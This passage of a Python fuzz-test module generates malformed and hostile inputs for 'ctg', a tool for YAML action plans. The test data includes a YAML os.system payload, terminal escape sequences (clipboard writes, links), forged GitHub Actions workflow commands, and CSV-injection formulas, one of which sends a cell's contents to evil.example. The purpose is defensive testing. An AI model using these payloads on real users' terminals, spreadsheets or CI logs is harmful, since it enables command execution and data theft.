        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return root


# ----------------------------------------------------------------------------- mutations

WRONG_VALUES = [
    "[1, 2]",
    "{a: 1}",
    "true",
    "false",
    "null",
    "~",
    "12.5",
    "-1",
    "0",
    "''",
    '""',
    "-",
    "!!binary aGVsbG8=",
    "!!python/object/apply:os.system [echo pwned]",
    "!!set {a, b}",
    "&x 1",
    "*x",
    "|",
    ">",
    "[",
    "{",
    "]",
    "}",
    "'unterminated",
    '"bad \\x escape"',
    "2020-13-45",
    "2024-02-30",
    "2024-00",
    "2201",
    "0999-01",
    "signé",
    "{valeur: signée, date: 2024-13}",
    "{base: inconnu}",
    "{base: vienne-2019, champs: [{nom: Bad Key}]}",
    "2020/2021",
    "9999999999999999999999",
    "1e400",
    ".nan",
    "-.inf",
    "@at",
    "`tick",
    "%percent",
    "? complex",
    "a: b: c",
    "<<: {a: 1}",
    "!tag x",
    "[1, [2, [3]]]",
    "{{ 7*7 }}",
    '"\\u0000"',
    "'\t'",
    "9.9.z",
    "1.d.",
    "A..3",
    "3.1. f",
    "é.1",
]
UNKNOWN_CODES = [
    "9.9.z",
    "1.d.",
    "A..3",
    "3.1. f",
    "",
    " ",
    "1.1.a.b.c.d.e",
    "é",
    "1..1",
    "x" * 300,
]


@dataclass(frozen=True)
class Mutation:
    """One change to one file of a written plan; ``target`` indexes ``PlanSpec.files()``."""

    kind: str
    target: int
    position: float = 0.0  # where in the file (0-1)
    payload: bytes = b""
    amount: int = 0

    def apply(self, root: Path, files: list[str]) -> None:
        relative = files[self.target % len(files)]
        path = root / relative
        if self.kind == "delete-file":
            if path.exists():
                path.unlink()
            return
        if self.kind == "new-fiche":
            (root / "fiches").mkdir(exist_ok=True)
            (root / "fiches" / f"zz-{self.amount}.yaml").write_bytes(self.payload)
            return
        raw = path.read_bytes() if path.exists() else b""
        path.write_bytes(mutate_bytes(raw, self))


def _line_bounds(raw: bytes, position: float) -> tuple[int, int]:
    lines = raw.split(b"\n")
    index = min(len(lines) - 1, int(position * len(lines)))
    start = sum(len(line) + 1 for line in lines[:index])
    return start, start + len(lines[index])


def mutate_bytes(raw: bytes, m: Mutation) -> bytes:
    at = int(m.position * len(raw))
    start, end = _line_bounds(raw, m.position)
    line = raw[start:end]
    if m.kind == "delete-line":
        return raw[:start] + raw[end + 1 :]
    if m.kind == "duplicate-line":
        return raw[:end] + b"\n" + line + raw[end:]
    if m.kind == "indent":
        stripped = line.lstrip(b" \t")
        return raw[:start] + m.payload + stripped + raw[end:]
    if m.kind == "truncate":
        return raw[:at]
    if m.kind == "insert-bytes":
        return raw[:at] + m.payload + raw[at:]
    if m.kind == "overwrite-bytes":
        return raw[:at] + m.payload + raw[at + len(m.payload) :]
    if m.kind in {"wrong-value", "huge-string", "deep-nesting"}:
        colon = line.find(b":")
        head = line[: colon + 1] if colon >= 0 else line + b":"
        if m.kind == "wrong-value":
            value = m.payload
        elif m.kind == "huge-string":
            value = b"x" * m.amount
        else:
            value = nesting(m.payload.decode(), m.amount).encode()
        return raw[:start] + head + b" " + value + raw[end:]
    if m.kind == "unknown-key":
        indent = line[: len(line) - len(line.lstrip(b" "))]
        return raw[:start] + indent + m.payload + b": 1\n" + raw[start:]
    if m.kind == "replace-code":
        found = list(re.finditer(rb"(?<![\w.])[A-Za-z0-9]+(?:\.[A-Za-z0-9]+)+(?![\w.])", raw))
        if not found:
            return raw
        match = found[int(m.position * len(found)) % len(found)]
        return raw[: match.start()] + m.payload + raw[match.end() :]
    if m.kind == "bom":
        return b"\xef\xbb\xbf" + raw
    if m.kind == "crlf":
        return raw.replace(b"\n", b"\r\n")
    if m.kind == "lone-cr":
        return raw.replace(b"\n", b"\r", 1)
    if m.kind == "latin-1":
        try:
            return raw.decode("utf-8").encode("latin-1", errors="replace")
        except UnicodeDecodeError:
            return raw
    if m.kind == "tab-indent":
        return re.sub(rb"(?m)^  ", b"\t", raw, count=1 + m.amount)
    if m.kind == "empty":
        return m.payload  # nothing, blanks, or a comment only
    raise AssertionError(f"unknown mutation {m.kind}")


def nesting(kind: str, depth: int) -> str:
    """A flow value nested ``depth`` levels deep."""
    if kind == "list":
        return "[" * depth + "]" * depth
    if kind == "map":
        return "{a: " * depth + "1" + "}" * depth
    if kind == "steps":
        return "[{texte: x, étapes: " * depth + "[]" + "}]" * depth
    if kind == "children":
        return "[{code: a, titre: x, enfants: " * depth + "[]" + "}]" * depth
    raise AssertionError(kind)


_position = st.floats(0, 1, allow_nan=False, exclude_max=True)


def mutations(file_count: int) -> st.SearchStrategy[Mutation]:
    target = st.integers(0, max(0, file_count - 1))
    by_kind: list[st.SearchStrategy[Mutation]] = [
        st.builds(
            Mutation,
            st.sampled_from(["delete-line", "duplicate-line", "truncate"]),
            target,
            _position,
        ),
        st.builds(
            Mutation,
            st.just("indent"),
            target,
            _position,
            st.sampled_from([b"", b" ", b"   ", b"\t", b"  \t", b" " * 12]),
        ),
        st.builds(
            Mutation,
            st.sampled_from(["insert-bytes", "overwrite-bytes"]),
            target,
            _position,
            st.binary(min_size=1, max_size=16),
        ),
        st.builds(
            Mutation,
            st.just("insert-bytes"),
            target,
            _position,
            st.sampled_from(
                [
                    b"\x00",
                    b"\xff\xfe",
                    b"\xe9",
                    b"\xc3",
                    b"\r",
                    b"\xc2\x85",
                    b"\xe2\x80\xa8",
                    b"\t",
                    b"\x1b[31m",
                    b"&a ",
                    b"*a",
                    b"#",
                    b"\n---\n",
                    b"\n...\n",
                    b"%YAML 1.1\n",
                    b"\xef\xbb\xbf",
                ]
            ),
        ),
        st.builds(
            Mutation,
            st.just("wrong-value"),
            target,
            _position,
            st.sampled_from([v.encode() for v in WRONG_VALUES]),
        ),
        st.builds(
            Mutation,
            st.just("huge-string"),
            target,
            _position,
            st.just(b""),
            st.sampled_from([1_000, 100_000, 1_000_000]),
        ),
        st.builds(
            Mutation,
            st.just("deep-nesting"),
            target,
            _position,
            st.sampled_from([b"list", b"map", b"steps", b"children"]),
            st.sampled_from([13, 14, 50, 200]),
        ),
        st.builds(
            Mutation,
            st.just("deep-nesting"),
            target,
            _position,
            st.just(b"list"),
            st.sampled_from([1_000, 3_000]),
        ),
        st.builds(
            Mutation,
            st.just("unknown-key"),
            target,
            _position,
            st.sampled_from(
                [
                    b"zzz",
                    b"pilote",
                    b"objectif",
                    b"titre",
                    "étapes".encode(),
                    b"etapes",
                    b"'1'",
                    b"null",
                    b"enfants",
                    b"children",
                    b"steps",
                    b"partners",
                    b"title",
                    b"code",
                    b"format",
                    b"formulaire",
                ]
            ),
        ),
        st.builds(
            Mutation,
            st.just("replace-code"),
            target,
            _position,
            st.sampled_from([c.encode() for c in UNKNOWN_CODES]),
        ),
        st.builds(
            Mutation,
            st.sampled_from(["bom", "crlf", "lone-cr", "latin-1", "empty", "delete-file"]),
            target,
            _position,
            st.sampled_from([b"", b" \n", b"# comment only\n"]),
        ),
        st.builds(
            Mutation, st.just("tab-indent"), target, _position, st.just(b""), st.integers(0, 3)
        ),
        st.builds(
            Mutation,
            st.just("new-fiche"),
            target,
            _position,
            st.one_of(
                st.binary(max_size=200),
                st.sampled_from(
                    [
                        "numéro: 1\ntitre: doublon\n".encode(),
                        b"number: 1\ntitle: format 1\n",
                        b"- a\n- b\n",
                        "numéro: 999\n".encode(),
                        b"x",
                        b"{{ 7*7 }}\n",
                        "numéro: [1]\ntitre: {a: b}\n".encode(),
                        "numéro: 7\ntitre: x\ndébut: 2024-13\nfin: 2023-02-30\n".encode(),
                    ]
                ),
            ),
            st.integers(0, 3),
        ),
    ]
    return st.one_of(by_kind)


# --------------------------------------------------------------------- data mutations


def _paths(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    out = [path]
    if isinstance(value, dict):
        for key, item in value.items():
            out += _paths(item, (*path, key))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            out += _paths(item, (*path, index))
    return out


_WRONG_DATA = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(10**20), 10**20),
    st.floats(allow_nan=True, allow_infinity=True),
    st.builds(list),
    st.builds(dict),
    st.lists(st.integers(), max_size=3),
    st.dictionaries(short_text(), st.integers(), max_size=2),
    short_text(),
    st.just("x" * 20_000),
    st.dates(),
    st.sampled_from(UNKNOWN_CODES),
    st.sampled_from(["2020/2021", "nouvelle?", "OUI!", "-5", "2024-02-30", "2024-9-1x"]),
    st.sampled_from(["projet", "vienne-2019", "général", "texte", "choix multiples"]),
)


@st.composite
def data_mutated(draw: st.DrawFn, spec: PlanSpec) -> PlanSpec:
    """``spec`` with values at random places replaced, removed or added (wrong types,
    unknown keys and codes, duplicates)."""
    documents = [spec.plan, *spec.fiches.values()]
    for _ in range(draw(st.integers(1, 3))):
        document = draw(st.sampled_from(documents))
        paths = _paths(document)[1:]
        if not paths:
            continue
        path = draw(st.sampled_from(paths))
        parent = document
        for step in path[:-1]:
            parent = parent[step]
        action = draw(st.sampled_from(["replace", "replace", "delete", "add-key", "duplicate"]))
        if action == "replace":
            parent[path[-1]] = draw(_WRONG_DATA)
        elif action == "delete":
            del parent[path[-1]]
        elif action == "add-key" and isinstance(parent, dict):
            parent[draw(st.sampled_from(["zzz", "Titre", "pilote", "étapes", "steps", "1"]))] = 1
        elif action == "duplicate" and isinstance(parent, list):
            parent.append(parent[path[-1]])
    if spec.fiches and draw(st.integers(0, 5)) == 0:
        name, fiche = next(iter(spec.fiches.items()))
        spec.fiches["99-copy.yaml"] = dict(fiche)  # same number twice
    return spec


@dataclass
class MutatedPlan:
    spec: PlanSpec
    mutations: list[Mutation]

    def write(self, root: Path) -> Path:
        write_plan(self.spec, root)
        files = self.spec.files()
        for mutation in self.mutations:
            mutation.apply(root, files)
        return root


@st.composite
def mutated_plans(draw: st.DrawFn) -> MutatedPlan:
    """A valid plan changed at random: in its data, in its text, in its bytes, or all."""
    spec = draw(plan_specs())
    how = draw(st.sampled_from(["text", "text", "data", "both"]))
    if how in {"data", "both"}:
        spec = draw(data_mutated(spec))
    changes = []
    if how in {"text", "both"}:
        changes = draw(st.lists(mutations(len(spec.files())), min_size=1, max_size=3))
    return MutatedPlan(spec, changes)


# ------------------------------------------------------------------ a plan's own form


#: Definitions of a plan's own fields that a coordinator may get wrong.
BAD_FIELD_DEFINITIONS: list[Any] = [
    {"nom": "Public Cible", "type": "texte"},
    {"nom": "1abc", "type": "texte"},
    {"nom": "a__b", "type": "texte"},
    {"nom": "_a", "type": "texte"},
    {"nom": "", "type": "texte"},
    {"nom": "titre", "type": "texte"},  # a standard field cannot get a type of its own
    {"nom": "inconnu"},  # neither standard nor typed
    {"nom": "couleur", "type": "couleur"},
    {"nom": "vide", "type": "choix"},
    {"nom": "vide", "type": "choix", "choix": []},
    {"nom": "vide", "type": "choix multiples"},
    {"nom": "grille", "type": "grille oui/non"},
    {"nom": "grille", "type": "grille oui/non", "lignes": [{"nom": "Bad Key"}]},
    {"nom": "grille", "type": "grille oui/non", "lignes": [{"nom": "été"}, {"nom": "ete"}]},
    {"nom": "grille", "type": "grille oui/non", "lignes": [{"nom": "a"}, {"nom": "a"}]},
    {"nom": "grille", "type": "grille oui/non", "lignes": ["a", "b"]},
    {"nom": "groupes", "type": "choix multiples", "groupes": {"A": None}},
    {"nom": "groupes", "type": "choix multiples", "groupes": {"A": ["x"], "B": ["X"]}},
    {"nom": "groupes", "type": "choix multiples", "groupes": ["A", "B"]},
    {"nom": "x", "type": "texte", "obligatoire": "peut-être"},
    {"nom": "x", "type": "choix", "choix": [1, 2.5, True, None]},
    {"nom": "x", "type": "choix", "choix": "a, b"},
    {"nom": "x", "type": "choix", "choix": ["a", "A", "à"]},
    {"nom": "x", "type": "texte", "inconnu": 1},
    {"nom": "x", "type": "texte", "libellé": {"a": 1}},
    {"nom": "format", "type": "nombre"},
    {"nom": "f_x", "type": "texte"},
    {"nom": "value", "type": "texte"},
    {"nom": "model_config", "type": "texte"},
    {"nom": "form", "type": "texte"},
    {"type": "texte"},
    "texte",
    12,
    None,
    [],
]
#: `formulaire.base` values, good and bad.
BASES: list[Any] = ["général", "vienne-2019", "Vienne-2019", "generale", "inconnu", "", 3, None]


def _any_value() -> st.SearchStrategy[Any]:
    """A value for a field whose definition may be wrong: valid for some type, or junk."""
    return st.one_of(
        st.sampled_from(FIELD_TYPES).flatmap(
            lambda kind: own_fields(kind).flatmap(lambda f: f.values)
        ),
        _WRONG_DATA,
    )


@st.composite
def own_form_plans(draw: st.DrawFn) -> MutatedPlan:
    """A plan whose form has random fields of its own, of every type, some defined wrongly
    (bad names, missing choices, unknown types, keys that fold alike), and fiches holding
    random values for them, valid or not."""
    spec = draw(plan_specs())
    champs: list[Any] = []
    values: dict[str, st.SearchStrategy[Any]] = {}
    for _ in range(draw(st.integers(1, 8))):
        how = draw(st.sampled_from(["good", "good", "bad", "copy"]))
        if how == "good":
            made = draw(own_fields())
            champs.append(made.definition)
            values[made.key] = st.one_of(made.values, made.values, _any_value())
        elif how == "bad":
            definition = copy.deepcopy(draw(st.sampled_from(BAD_FIELD_DEFINITIONS)))
            champs.append(definition)
            if isinstance(definition, dict) and isinstance(definition.get("nom"), str):
                values[definition["nom"]] = _any_value()
        elif champs:
            champs.append(copy.deepcopy(draw(st.sampled_from(champs))))
    form: dict[str, Any] = {"champs": champs}
    if draw(st.integers(0, 3)) > 0:
        form["base"] = draw(st.sampled_from(BASES))
    spec.plan["formulaire"] = form
    for fiche in spec.fiches.values():
        for key, strategy in values.items():
            if draw(st.booleans()):
                fiche[key] = draw(strategy)
    if draw(st.integers(0, 3)) == 0:
        spec = draw(data_mutated(spec))
    return MutatedPlan(spec, [])


# ------------------------------------------------- hostile input, round 2 (issue 14)

#: Rich markup and emoji codes: plan text must be printed as it is, never interpreted.
RICH_MARKUP = [
    "[bold]",
    "[/bold]",
    "[/x]",
    "[/]",
    "[i]",
    "[blink]",
    "[red on white]",
    "[#ff0000]",
    "[link=https://evil.example/a?b=1]",
    "[/link]",
    "[@click=app.bell]",
    "\\[bold]",
    "[[",
    "]]",
    ":smile:",
    ":warning:",
]
#: What a terminal acts on: every C0 control but tab and newline, DEL, every C1 control,
#: escape sequences (CSI, OSC 8 links, OSC 52 clipboard, window title, DCS, C1 CSI and OSC),
#: BEL, backspace, CR, bidirectional overrides and isolates, line and paragraph separators.
TERMINAL_CONTROLS = [
    *(chr(code) for code in range(0x20) if code not in (0x09, 0x0A)),
    "\x7f",
    *(chr(code) for code in range(0x80, 0xA0)),
    "\x1b[2J",
    "\x1b[H\x1b[3J",
    "\x1b[31m",
    "\x1b[0m",
    "\x1bc",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b]8;;https://evil.example\x1b\\lien\x1b]8;;\x1b\\",
    "\x1b]0;titre\x07",
    "\x1bP+q544e\x1b\\",
    "\x9b2J",
    "\x9d8;;https://evil.example\x9c",
    "\x07",
    "\x08\x08\x08",
    "\r",
    "\r\n",
    "\u202e",
    "\u202d",
    "\u202a",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u2069",
    "\u200e",
    "\u200f",
    "\u061c",
    "\u2028",
    "\u2029",
]
#: GitHub Actions workflow commands, and the escapes the runner decodes.
WORKFLOW_COMMANDS = [
    "::error file=x.yaml,line=1::forged",
    "\n::error::forged",
    "\r\n::warning::forged",
    "%0A::error::forged",
    "%0D%0A::notice::forged",
    "::add-mask::secret",
    "::stop-commands::jeton",
    "::set-output name=x::y",
    "::group::x",
    "%25",
    "%",
    "::",
    ",title=CTG999",
    ":",
]
_hostile_piece = st.one_of(
    st.sampled_from(RICH_MARKUP),
    st.sampled_from(TERMINAL_CONTROLS),
    st.sampled_from(WORKFLOW_COMMANDS),
    word,
    st.text(st.characters(max_codepoint=0x2070), min_size=1, max_size=4),
)


@st.composite
def hostile_text(draw: st.DrawFn, max_pieces: int = 5) -> str:
    """Plan text that tries to act on a terminal, a CI log or rich: markup, controls, escape
    sequences, forged workflow commands, among ordinary words. Never blank."""
    pieces = draw(st.lists(_hostile_piece, min_size=1, max_size=max_pieces))
    pieces.insert(
        draw(st.integers(0, len(pieces))),
        draw(st.one_of(st.sampled_from(RICH_MARKUP), st.sampled_from(TERMINAL_CONTROLS))),
    )
    text = draw(st.sampled_from(["", " "])).join(pieces)
    return text if text.strip() else text + "x"


#: What a spreadsheet takes for the start of a formula (OWASP « CSV Injection »), alone and
#: behind whitespace ctg may strip.
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "\t=", "\r\n=", " =", "==", "-=", "+-", "@@"]
FORMULA_BODIES = [
    'HYPERLINK("https://evil.example/?"&A1,"clic")',
    "cmd|' /C calc'!A0",
    "1+1",
    "SUM(1;2)*cmd|'/C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    "2+5",
    "x",
    "",
]


@st.composite
def formula_text(draw: st.DrawFn) -> str:
    """A cell a spreadsheet would run: a formula start, then a body (sometimes hostile)."""
    body = draw(st.one_of(st.sampled_from(FORMULA_BODIES), line_text(1, 3), hostile_text(2)))
    text = draw(st.sampled_from(FORMULA_STARTS)) + body
    return text if text.strip() else text + "1"


def _name_bytes(text: st.SearchStrategy[str]) -> st.SearchStrategy[bytes]:
    """A file name from ``text`` or raw bytes (maybe not UTF-8): no ``/``, no NUL, never
    ``.`` or ``..``, at most 120 bytes."""

    def clean(raw: bytes) -> bytes:
        raw = raw.replace(b"/", b"_").replace(b"\0", b"_")[:120]
        return b"x" + raw if raw in (b"", b".", b"..") else raw

    return st.one_of(
        text.map(lambda t: t.encode("utf-8", "surrogatepass")),
        st.binary(min_size=1, max_size=40),
        st.builds(
            lambda a, b: a + b,
            st.sampled_from([b"plans-\xff", b"\xe9t\xe9", b"\x1b[2J", b"-"]),
            st.binary(max_size=10),
        ),
    ).map(clean)


@dataclass
class HostilePlan:
    """A valid generated plan (most of the time) with hostile text put into its titles,
    codes and fiche fields, and maybe into its directory and file names (``name`` and
    ``renamed`` are bytes: they may not be UTF-8). ``placed`` lists (where, text)."""

    spec: PlanSpec
    name: bytes = b"plan"
    renamed: dict[str, bytes] = field(default_factory=dict)
    placed: list[tuple[str, str]] = field(default_factory=list)

    def write(self, parent: Path) -> Path:
        root = Path(os.fsdecode(os.fsencode(parent) + b"/" + self.name))
        write_plan(self.spec, root)
        for old, new in self.renamed.items():
            os.rename(root / "fiches" / old, os.fsencode(root / "fiches") + b"/" + new)
        return root


def _nodes(nodes: list[Any]) -> list[dict[str, Any]]:
    out = []
    for node in nodes:
        out.append(node)
        out += _nodes(node.get("enfants", []))
    return out


@st.composite
def hostile_plans(
    draw: st.DrawFn, text: st.SearchStrategy[str] | None = None, names: bool = True
) -> HostilePlan:
    """A generated plan with ``text`` (hostile text by default) in some of: the plan's
    title, objective titles, level names, a new objective's code, fiche titles, numbers,
    pilotes and partenaires, the actor registry, a key or a value a fiche gets wrong (a
    diagnostic quotes it), the plan's directory name and its fiche file names."""
    text = text if text is not None else hostile_text()
    spec = draw(plan_specs())
    case = HostilePlan(spec)

    def put(where: str) -> str:
        value = draw(text)
        case.placed.append((where, value))
        return value

    def sometimes(odds: int = 2) -> bool:
        return draw(st.integers(0, odds - 1)) == 0

    plan = spec.plan
    if sometimes():
        plan["titre"] = put("plan-title")
    quotes = [
        objective
        for fiche in spec.fiches.values()
        for objective in fiche["objectifs"]
        if isinstance(objective, dict)
    ]
    for node in _nodes(plan["stratégie"]):
        if "titre" in node and sometimes(3):
            old, node["titre"] = node["titre"], put("objective-title")
            for quote in quotes:  # a fiche quoting the objective quotes the new title
                if quote["texte"] == old:
                    quote["texte"] = node["titre"]
    for level in plan["niveaux"]:
        if sometimes(4):
            level["pluriel" if sometimes() else "nom"] = put("level")
    for actor in plan.get("acteurs", []):
        if sometimes(3):
            actor["sigle" if sometimes(3) else "nom"] = put("registry")
    for fiche in spec.fiches.values():
        if sometimes():
            fiche["titre"] = put("fiche-title")
        for key in ("pilotes", "partenaires"):
            if sometimes(3):
                fiche.setdefault(key, []).append(put("actor"))
    # A third of the plans get text where it is wrong: diagnostics quote it.
    fiches = list(spec.fiches.values())
    for _ in range(draw(st.sampled_from([0, 0, 1, 2]))):
        wrong = draw(st.sampled_from(["code", "cited-code", "key", "value", "number"]))
        if wrong == "code" or not fiches:
            plan["stratégie"].append({"code": put("code"), "titre": put("objective-title")})
            continue
        fiche = draw(st.sampled_from(fiches))
        if wrong == "cited-code":
            fiche["objectifs"] = [*fiche["objectifs"], put(wrong)]
        elif wrong == "key":
            fiche[put(wrong)] = 1
        elif wrong == "value":
            fiche["début"] = put(wrong)
        else:
            fiche["numéro"] = put(wrong)
    if names and sometimes(3):
        case.name = draw(_name_bytes(text))
    if names:
        for position, old in enumerate(list(spec.fiches)):
            if sometimes(4):
                case.renamed[old] = b"%02d-" % position + draw(_name_bytes(text))[:100] + b".yaml"
    return case


# ------------------------------------------------------------- configuration files


@dataclass
class ConfigCase:
    """A configuration file for ctg: ``ctg.toml`` or ``pyproject.toml``, in ``folder``
    (bytes: maybe not UTF-8), found by walking up from the working folder or named with
    ``--config``. ``valid``: whether ctg may use it as its configuration (None: random
    bytes, either way)."""

    name: str
    content: bytes
    valid: bool | None
    named: bool  # passed with --config
    folder: bytes = b"conf"

    def __repr__(self) -> str:  # megabytes of padding are not worth printing
        shown = self.content if len(self.content) < 600 else self.content[:300] + b"..."
        return (
            f"ConfigCase({self.name!r}, {shown!r} ({len(self.content)} bytes), "
            f"valid={self.valid}, named={self.named}, folder={self.folder!r})"
        )


def _toml_string(text: str) -> str:
    """``text`` as a TOML basic string (every character a TOML string may not hold raw is
    escaped; a lone surrogate becomes U+FFFD)."""
    out = []
    for char in text.encode("utf-8", "replace").decode("utf-8"):
        code = ord(char)
        if char in '"\\':
            out.append("\\" + char)
        elif code < 0x20 or code == 0x7F:
            out.append(f"\\u{code:04x}")
        else:
            out.append(char)
    return '"' + "".join(out) + '"'


def _rule_names() -> list[str]:
    from ctgkit.rules import RULES

    return [*RULES, *(rule.name for rule in RULES.values())]


def _deep(kind: str, depth: int) -> str:
    if kind == "array":
        return "[" * depth + "]" * depth
    if kind == "table":
        return "{a = " * depth + "1" + "}" * depth
    return "[{a = " * depth + "1" + "}]" * depth


_TOML_WRONG = [
    "5",
    '"CTG041"',
    "true",
    "1.5",
    "nan",
    "-inf",
    "1979-05-27",
    "07:32:00",
    "1979-05-27T07:32:00Z",
    "{a = 1}",
    "[1]",
    "[[]]",
    '["CTG041", 2]',
    "[{}]",
    "0x10",
    "1e999",
]
_NOT_TABLES = [value for value in _TOML_WRONG if not value.startswith("{")]
#: Numbers longer than Python converts by default (4,300 digits in base 10).
_TOML_HUGE = [
    "1" * 4301,
    "1" * 4300,
    "-" + "9" * 5000,
    "+" + "1_" * 5000 + "1",
    "0x" + "f" * 5000,
    "0o" + "7" * 5000,
    "1e" + "9" * 5000,
    "0." + "1" * 5000,
    "[" + "1" * 5000 + "]",
]
_TOML_INVALID = [
    "",
    "[",
    '"unterminated',
    "'''",
    "= 1",
    "CTG041",
    "[1,,2]",
    "{a = 1,}",
    "1979-13-45",
    "0b2",
    "\x00",
    '"\\x41"',
    '"\\uD800"',
    "1__0",
]


@st.composite
def config_values(draw: st.DrawFn) -> tuple[str, bool]:
    """A value for ``ignore`` (TOML source) and whether ctg accepts it."""
    kinds = ["good", "good", "unknown-rule", "wrong-type", "huge-number", "deep", "junk"]
    kind = draw(st.sampled_from(kinds))
    if kind == "good":
        names = draw(st.lists(st.sampled_from(_rule_names()), max_size=4))
        return "[" + ", ".join(map(_toml_string, names)) + "]", True
    if kind == "unknown-rule":
        bad = draw(
            st.one_of(
                st.sampled_from(["CTG999", "ctg", "", " ", "CTG04", "nope", "CTG041 "]),
                hostile_text(3),
            )
        )
        return "[" + _toml_string(bad) + "]", False
    if kind == "wrong-type":
        return draw(st.sampled_from(_TOML_WRONG)), False
    if kind == "huge-number":
        return draw(st.sampled_from(_TOML_HUGE)), False
    if kind == "deep":
        depth = draw(st.sampled_from([2, 50, 300, 999, 1000, 3000, 6000]))
        return _deep(draw(st.sampled_from(["array", "table", "mixed"])), depth), False
    return draw(st.sampled_from(_TOML_INVALID)), False


@st.composite
def config_cases(draw: st.DrawFn) -> ConfigCase:
    """A generated configuration file: right or wrong types, unknown keys, a ``tool.ctg``
    that is not a table, deep nesting, invalid TOML, random or non-UTF-8 bytes, sizes near
    the cap, in a folder whose name may not be UTF-8."""
    from ctgkit.source import MAX_FILE_BYTES

    name = draw(st.sampled_from(["ctg.toml", "pyproject.toml"]))
    named = draw(st.booleans())
    value, valid_value = draw(config_values())
    lines = []
    unknown = draw(st.booleans())
    if unknown:  # a key ctg does not know, before or instead of ignore
        key = draw(
            st.one_of(
                st.sampled_from(["ignorer", "Ignore", "select", "exclude", '"ig nore"']),
                st.text(string.ascii_letters + "_-", min_size=1, max_size=8),
            ).filter(lambda key: key != "ignore")
        )
        lines.append(f"{key} = {draw(config_values())[0]}")
    with_ignore = draw(st.integers(0, 4)) > 0
    if with_ignore:
        lines.append(f"ignore = {value}")
    valid: bool | None = not unknown and (valid_value or not with_ignore)
    body = "\n".join(lines) + "\n"
    if name == "pyproject.toml":
        shape = draw(
            st.sampled_from(["header", "header", "dotted", "inline", "tool-value", "ctg-value",
                             "array-of-tables", "no-ctg"])
        )  # fmt: skip
        project = draw(st.sampled_from(["", '[project]\nname = "x"\n\n']))
        if shape == "header":
            body = f"{project}[tool.ctg]\n{body}"
        elif shape == "dotted":
            body = "".join(f"tool.ctg.{line}\n" for line in lines) + project
        elif shape == "inline":
            body = project + "[tool]\nctg = {" + ", ".join(lines) + "}\n"
        elif shape == "tool-value":  # `tool` itself is not a table
            body = f"tool = {draw(st.sampled_from(_NOT_TABLES))}\n"
            valid = False
        elif shape == "ctg-value":  # `tool.ctg` is not a table
            body = f"{project}[tool]\nctg = {draw(st.sampled_from(_NOT_TABLES))}\n"
            valid = False
        elif shape == "array-of-tables":
            body = f"[[tool.ctg]]\n{body}"
            valid = False
        else:  # a pyproject.toml of another tool's
            body = f"{project}[tool.ruff]\nline-length = 100\n"
            valid = True
    content = body.encode("utf-8")
    how = draw(st.sampled_from(["as is"] * 6 + ["bytes", "not-utf8", "bom", "cr", "cap"]))
    if how == "bytes":
        content = draw(st.binary(max_size=300))
        if draw(st.booleans()):
            content = b"[tool.ctg]\n" + content
        valid = None
    elif how == "not-utf8":
        at = draw(st.integers(0, len(content)))
        content = content[:at] + draw(st.sampled_from([b"\xff", b"\xe9", b"\xc3", b"\xed\xa0\x80"]))
        content += body.encode("utf-8")[at:]
        valid = False  # inside a comment or not, a file that is not UTF-8 is refused
    elif how == "bom":
        content = b"\xef\xbb\xbf" + content
        valid = None
    elif how == "cr":
        content = content.replace(b"\n", b"\r")
        valid = None
    elif how == "cap":  # padded with a comment to a size around the cap
        size = MAX_FILE_BYTES + draw(st.sampled_from([-4096, -2, -1, 0, 1, 2, 4096]))
        padding = max(0, size - len(content) - 2)
        content = content + b"#" + b"x" * padding + b"\n"
        if len(content) > MAX_FILE_BYTES:
            valid = False  # too large: refused before it is read
    folder = draw(st.one_of(st.just(b"conf"), _name_bytes(hostile_text(2))))
    return ConfigCase(name, content, valid, named, folder)


# ------------------------------------------------------------------- output streams

#: Character encodings a user's environment may impose on standard output
#: (``PYTHONIOENCODING``), with the error handlers Python lets it name.
IO_ENCODINGS = [
    "ascii", "latin-1", "iso8859-15", "cp1252", "cp437", "cp850", "cp037", "koi8-r",
    "mac-roman", "shift_jis", "euc-jp", "gb2312", "big5", "utf-8", "utf-8-sig", "utf-16",
    "utf-16-le", "utf-16-be", "utf-32", "utf-7",
]  # fmt: skip
IO_ERRORS = [
    "", ":strict", ":replace", ":ignore", ":backslashreplace", ":xmlcharrefreplace",
    ":surrogateescape", ":namereplace",
]  # fmt: skip
#: Commands and their options, the plan's path after them (``{out}``: a file or folder in
#: a scratch folder).
STREAM_COMMANDS = [
    ["validate"],
    ["validate", "--format", "json"],
    ["validate", "--format", "github"],
    ["coverage"],
    ["coverage", "--uncovered"],
    ["coverage", "--format", "json"],
    ["coverage", "--format", "csv"],
    ["coverage", "--format", "md"],
    ["coverage", "--format", "json", "-o", "{out}/coverage.json"],
    ["actors"],
    ["actors", "--format", "json"],
    ["actors", "--format", "csv"],
    ["render", "-o", "{out}/site"],
]


@dataclass
class StreamCase:
    """A command on a hostile plan with an output encoding ctg does not choose and a
    standard output that may be a pipe, closed, full (/dev/full) or read by ``head -c N``."""

    plan: HostilePlan
    command: list[str]
    encoding: str | None  # PYTHONIOENCODING, None: unset
    stdout: str  # "pipe", "closed", "full" or "head"
    head: int = 0  # bytes ``head -c`` reads before it exits


@st.composite
def stream_cases(draw: st.DrawFn) -> StreamCase:
    encoding = None
    if draw(st.integers(0, 4)) > 0:
        encoding = draw(st.sampled_from(IO_ENCODINGS)) + draw(st.sampled_from(IO_ERRORS))
    return StreamCase(
        draw(hostile_plans()),
        draw(st.sampled_from(STREAM_COMMANDS)),
        encoding,
        draw(st.sampled_from(["pipe", "pipe", "closed", "full", "head", "head"])),
        draw(st.one_of(st.integers(0, 3), st.integers(0, 5_000), st.just(10**6))),
    )


# ------------------------------------------------------------------- output targets

#: What ``-o`` may name besides a new file: things ctg must never replace or write into.
SPECIAL_TARGETS = [
    "fifo",
    "socket",
    "device",  # a character device made in the scratch folder (as root), else a link to one
    "link-to-device",
    "link-to-fifo",
    "link-to-socket",
    "link-chain",  # a link to a link to a FIFO
]
TARGET_KINDS = [
    *SPECIAL_TARGETS,
    "directory",
    "link-to-directory",
    "regular-file",
    "inside-plan",
    "link-into-plan",
    "lookalike",  # a new output next to the user's files named like ctg's temporary files
]
#: System paths ``-o`` may name (tested in-process, with every write forbidden).
